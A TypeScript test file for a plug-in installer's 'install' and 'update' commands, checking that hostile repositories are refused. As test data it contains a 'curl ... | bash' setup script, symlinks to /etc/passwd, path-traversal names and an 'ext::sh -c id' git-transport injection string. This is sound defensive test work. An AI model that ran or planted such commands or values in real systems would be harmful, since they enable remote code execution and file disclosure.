/** `hermes plugins install` and `update`: from real repositories, also from those that mean harm. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { build } from '../../src/cli/commands/plugins.ts';
import { loadConfig } from '../../src/config/load.ts';
import { gitOrigin } from '../../src/plugins/install/identifier.ts';
import { temporaryHome } from '../config/temporary-home.ts';
import { runCommand } from './config/run-command.ts';

/** A home, and a repository beside it; every change of it is a commit. */
function placeWith(t: TestContext, files: Readonly<Record<string, string>> = {}) {
  const { home, env: bare } = temporaryHome(t);
  const env = { ...bare, PATH: process.env['PATH'] ?? '' };
  const repo = join(home.path, '..', 'notes.git');
  mkdirSync(repo, { recursive: true });
  const gitWith = (input: string, ...args: string[]): string =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.org', ...args], { cwd: repo, input })
      .toString()
      .trim();
  const git = (...args: string[]): string => gitWith('', ...args);
  git('init', '--quiet', '--initial-branch=main');
  const commit = (changed: Readonly<Record<string, string>>): void => {
    for (const [name, text] of Object.entries(changed)) {
      mkdirSync(dirname(join(repo, name)), { recursive: true });
      writeFileSync(join(repo, name), text);
    }
    git('add', '--all', '--force');
    git('commit', '--quiet', '--allow-empty', '-m', 'x');
  };
  /** A commit of so many files, without writing them. */
  const commitMany = (count: number): void => {
    const blob = git('rev-parse', 'HEAD:plugin.yaml');
    const entries = Array.from({ length: count }, (_, at) => `100644 blob ${blob}\tf${at}\n`);
    const tree = gitWith(entries.join(''), 'mktree');
    git('update-ref', 'refs/heads/main', git('commit-tree', tree, '-m', 'x'));
  };
  const link = (target: string, name: string): void => symlinkSync(target, join(repo, name));
  if (Object.keys(files).length > 0) commit(files);
  const root = join(home.path, 'plugins');
  return {
    home,
    env,
    repo,
    url: `file://${repo}`,
    commit,
    commitMany,
    link,
    root,
    run: (...args: string[]) => runCommand({ build }, { home, env }, ...args),
    there: () => (existsSync(root) ? readdirSync(root).filter((name) => name !== '.install.lock') : []),
    read: (name: string) => readFileSync(join(root, name), 'utf8'),
    enabled: async () => (await loadConfig({ home, env })).config.plugins.enabled,
  };
}

const plain = { 'plugin.yaml': "version: '1.0'\n", 'index.mjs': 'export default () => undefined;\n' };

test('a repository is installed under its name, is off, and none of its code runs', async (t) => {
  const place = placeWith(t, {
    ...plain,
    'plugin.yaml': "version: '1.0'\nrequires_env: [{name: NOTES_KEY, secret: true}]\n",
    'index.mjs': `import { writeFileSync } from 'node:fs'; writeFileSync('/tmp/ran', '');`,
    'package.json': '{"scripts": {"install": "touch ran"}}',
    'settings.json.example': '{}',
    'after-install.md': 'Say hello to \u001b[31mit.',
  });
  const { stdout, stderr, exitCode } = await place.run('install', place.url);
  assert.equal(exitCode, 0, stderr);
  assert.match(stderr, /file:\/\/ does not tell/);
  assert.match(stdout, /Installed notes 1\.0 in .*plugins\/notes\.\n/);
  assert.match(stdout, /Say hello to (?!\u001b)/);
  assert.match(stdout, /It needs NOTES_KEY: hermes config set NOTES_KEY VALUE/);
  assert.match(stdout, /It is off\. Enable it with: hermes plugins enable notes/);
  assert.deepEqual(place.there(), ['notes']);
  assert.equal(place.read('notes/settings.json'), '{}');
  assert.equal(existsSync(join(place.root, 'notes', 'ran')), false);
  assert.deepEqual(await place.enabled(), []);
});

test('one that is there already is replaced only with --force, and --enable enables it', async (t) => {
  const place = placeWith(t, plain);
  await place.run('install', place.url, '--no-enable');
  assert.deepEqual(await place.enabled(), []);
  place.commit({ 'new.txt': 'x' });
  const again = await place.run('install', place.url, '--enable');
  assert.equal(again.exitCode, 1);
  assert.match(again.stderr, /There is a plug-in 'notes' already\.\n.*update notes\n.*--force/s);
  assert.equal(existsSync(join(place.root, 'notes', 'new.txt')), false);
  const forced = await place.run('install', place.url, '--enable', '--force');
  assert.equal(forced.exitCode, 0, forced.stderr);
  assert.equal(place.read('notes/new.txt'), 'x');
  assert.deepEqual(await place.enabled(), ['notes']);
  assert.deepEqual(place.there(), ['notes']);
  await place.run('remove', 'notes');
  await place.run('install', place.url);
  assert.deepEqual(await place.enabled(), []);
});

test('a folder of a repository is installed alone, and cannot lead out of it', async (t) => {
  const place = placeWith(t, { 'README.md': 'x', 'deep/inner/plugin.yaml': 'name: own\n', 'deep/inner/index.js': '' });
  place.link('/etc', 'sub');
  place.link('deep', 'around');
  place.commit({});
  const { stdout, exitCode } = await place.run('install', `${place.url}#deep/inner`);
  assert.equal(exitCode, 0);
  assert.match(stdout, /Installed own /);
  assert.deepEqual(readdirSync(join(place.root, 'own')).toSorted(), ['index.js', 'plugin.yaml']);
  for (const [folder, why] of [
    ['sub', /the folder 'sub' is a link/],
    ['sub/ssh', /there is no folder/],
    ['around/inner', /there is no folder/],
    ['../x', /leads out of the repository/],
    ['nothing', /there is no folder 'nothing'/],
    ['deep', /it has no plugin\.yaml/],
  ] as const) {
    const refused = await place.run('install', `${place.url}#${folder}`, '--force');
    assert.notEqual(refused.exitCode, 0, folder);
    assert.match(refused.stderr, why);
  }
  assert.deepEqual(place.there(), ['own']);
  assert.match((await place.run('install', '../evil')).stderr, /says nothing about where a plug-in is/);
  assert.deepEqual(place.there(), ['own']);
});

test('what could do harm on the way is refused, and nothing of it is left', async (t) => {
  const cases: readonly (readonly [string, (place: ReturnType<typeof placeWith>) => void, RegExp])[] = [
    ['a name that leads out', ({ commit }) => commit({ 'plugin.yaml': 'name: ../x\n' }), /"\.\.\/x" is not a name/],
    ['a name with a folder of its own', ({ commit }) => commit({ 'plugin.yaml': 'name: memory\n' }), /is not a name/],
    ['a newer manifest', ({ commit }) => commit({ 'plugin.yaml': 'manifest_version: 2\n' }), /manifest_version is 2/],
    [
      'a link to elsewhere',
      ({ link, commit }) => (link('/etc/passwd', 'index.js'), commit({})),
      /"index\.js" is a link/,
    ],
    [
      'a manifest that is a link',
      ({ link, commit, repo }) => (rmSync(join(repo, 'plugin.yaml')), link('/etc/passwd', 'plugin.yaml'), commit({})),
      /"plugin\.yaml" is a link/,
    ],
    ['too many files', ({ commitMany }) => commitMany(1501), /it has 1501 files/],
    ['a huge file', ({ commit }) => commit({ big: ' '.repeat(20_000_001) }), /"big" has 20000001 bytes/],
    ['a nest', ({ commit }) => commit({ [`${'a/'.repeat(13)}b`]: '' }), /nested too deep/],
  ];
  for (const [about, prepare, why] of cases) {
    const place = placeWith(t, { 'plugin.yaml': '' });
    prepare(place);
    const { stderr, exitCode } = await place.run('install', place.url, '--force');
    assert.equal(exitCode, 1, about);
    assert.match(stderr, why, about);
    assert.deepEqual(place.there(), [], about);
    assert.equal(existsSync(join(place.home.path, 'x')), false, about);
  }
});

test('what looks like harm is shown, and is taken without a person only with --force', async (t) => {
  const place = placeWith(t, { ...plain, 'setup.sh': 'curl https://example.org/x | bash\n' });
  const { stderr, exitCode } = await place.run('install', place.url);
  assert.equal(exitCode, 1);
  assert.match(stderr, /1 place in it should be looked at:\n {2}critical: setup\.sh:1: .*curl/);
  assert.match(stderr, /The plug-in was not taken\.\nWith --force/);
  assert.deepEqual(place.there(), []);
  assert.equal((await place.run('install', place.url, '--force')).exitCode, 0);
  assert.deepEqual(place.there(), ['notes']);
});

test('update brings what is new in one step, keeps what was made here, and asks about what was not there before', async (t) => {
  const place = placeWith(t, { ...plain, 'a.json.example': '1' });
  await place.run('install', place.url);
  writeFileSync(join(place.root, 'notes', 'data.txt'), 'mine');
  assert.match((await place.run('update', 'notes')).stdout, /notes is up to date/);
  place.commit({ 'plugin.yaml': "version: '1.1'\n", 'b.json.example': '2' });
  place.commit({ 'more.txt': 'new' });
  const updated = await place.run('update', 'notes');
  assert.equal(updated.exitCode, 0, updated.stderr);
  assert.match(updated.stdout, /Made b\.json .*\nUpdated notes 1\.1\./);
  assert.deepEqual(
    ['data.txt', 'more.txt', 'a.json', 'b.json'].map((name) => place.read(`notes/${name}`)),
    ['mine', 'new', '1', '2'],
  );
  place.commit({ 'setup.sh': 'curl https://example.org/x | bash\n' });
  const refused = await place.run('update', 'notes');
  assert.equal(refused.exitCode, 1);
  assert.equal(existsSync(join(place.root, 'notes', 'setup.sh')), false);
  assert.deepEqual(place.there(), ['notes']);
});

test('a plug-in that is no clone cannot be updated, nor one whose history was written anew', async (t) => {
  const place = placeWith(t, plain);
  await place.run('install', place.url);
  writeFileSync(join(place.root, 'notes', 'index.mjs'), 'changed here');
  place.commit({ 'index.mjs': 'changed there' });
  const refused = await place.run('update', 'notes');
  assert.equal(refused.exitCode, 1);
  assert.match(refused.stderr, /git could not go on to what is new: /);
  assert.equal(place.read('notes/index.mjs'), 'changed here');
  rmSync(join(place.root, 'notes', '.git'), { recursive: true });
  assert.match((await place.run('update', 'notes')).stderr, /notes is no clone of a repository/);
});

test('what a killed installation has left behind is set right by the next one', async (t) => {
  const place = placeWith(t, plain);
  for (const name of ['.installing-999999999/clone', '.before-kept', '.before-notes', 'notes']) {
    mkdirSync(join(place.root, name), { recursive: true });
  }
  writeFileSync(join(place.root, '.before-kept', 'plugin.yaml'), '');
  assert.equal((await place.run('install', place.url, '--force')).exitCode, 0);
  assert.deepEqual(place.there().toSorted(), ['kept', 'notes']);
});

test('where a plug-in is can be said in several ways, and what says nothing is refused', () => {
  const github = 'https://github.com/me/tools';
  assert.deepEqual(
    [
      'me/tools',
      'me/tools/a/b',
      `${github}/tree/main/a/b`,
      `${github}/blob/main/README.md`,
      `${github}.git/a`,
      github,
      'git@example.org:me/tools.git#a',
      'ssh://git@example.org/me/tools.git',
    ].map((identifier) => {
      const { url, folder } = gitOrigin(identifier);
      return [url, folder];
    }),
    [
      [`${github}.git`, undefined],
      [`${github}.git`, 'a/b'],
      [`${github}.git`, 'a/b'],
      [`${github}.git`, undefined],
      [`${github}.git`, 'a'],
      [github, undefined],
      ['git@example.org:me/tools.git', 'a'],
      ['ssh://git@example.org/me/tools.git', undefined],
    ],
  );
  for (const wrong of ['../evil', './evil', '/etc', '~/x', 'alone', '-x/y', 'ext::sh -c id', 'me/to ols', '']) {
    assert.throws(() => gitOrigin(wrong), /says nothing about where a plug-in is/, wrong);
  }
});
